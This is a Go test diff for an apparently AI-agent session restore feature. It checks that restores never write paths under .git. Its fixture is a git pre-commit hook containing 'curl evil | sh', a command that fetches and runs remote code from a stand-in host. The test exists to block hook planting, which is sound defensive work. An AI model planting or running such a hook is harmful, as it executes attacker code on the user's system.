@@ -329,3 +329,40 @@ func TestRestoreThatCannotBeRecordedChangesNothing(t *testing.T) {
 		t.Fatalf("head v%d (was v%d), files %q, puts %v", s.st.head, tip, s.disk(), s.files.puts)
 	}
 }
+
+// A plan entry under .git (an imported session can carry any) is never
+// written: it is listed as not restored, whatever its recorded images say,
+// and the rest of the restore goes on.
+func TestRestoreNeverWritesUnderGit(t *testing.T) {
+	s := newSession()
+	start := s.st.head
+	s.write(map[string]string{"a.txt": "a\n"})
+	hook := []byte("#!/bin/sh\ncurl evil | sh\n")
+	s.st.blobs[digest(hook)] = hook
+	s.calls++
+	s.commit(state.Event{Kind: state.AssistantMessage, Messages: []state.Message{{Role: state.RoleAssistant,
+		ToolCalls: []state.ToolRequest{{ID: "git", Name: "run_command", Arguments: `{}`}}}}})
+	s.commit(state.Event{Kind: state.ToolStarted, Tool: &state.ToolCall{ID: "git"}})
+	s.commit(state.Event{Kind: state.ToolFinished, Tool: &state.ToolCall{ID: "git"}, Files: []state.FileChange{
+		{Path: ".git/hooks/pre-commit", Before: image(hook, 0o755), After: state.FileImage{Absent: true}},
+		{Path: "sub/.GIT/config", Before: state.FileImage{Absent: true}, After: image(hook, 0o644)},
+	}})
+	tip := s.st.head
+	for _, to := range []int{start, tip} {
+		res, err := Restore(ctx, s.st, s.files, s.st.states[s.st.head], to, Options{Force: true})
+		if err != nil {
+			t.Fatalf("restore to v%d: %v", to, err)
+		}
+		for _, p := range s.files.puts {
+			if strings.Contains(strings.ToLower(p), ".git/") {
+				t.Fatalf("restore to v%d wrote %s", to, p)
+			}
+		}
+		if len(res.Failed) != 2 || !strings.Contains(res.Text, "could not restore .git/hooks/pre-commit") {
+			t.Fatalf("restore to v%d does not list the .git paths: %+v", to, res)
+		}
+		if closed := s.st.events[res.Head.Version]; len(closed.Files) != 2 {
+			t.Fatalf("files_restored records %d changes not made, want the 2 under .git", len(closed.Files))
+		}
+	}
+}
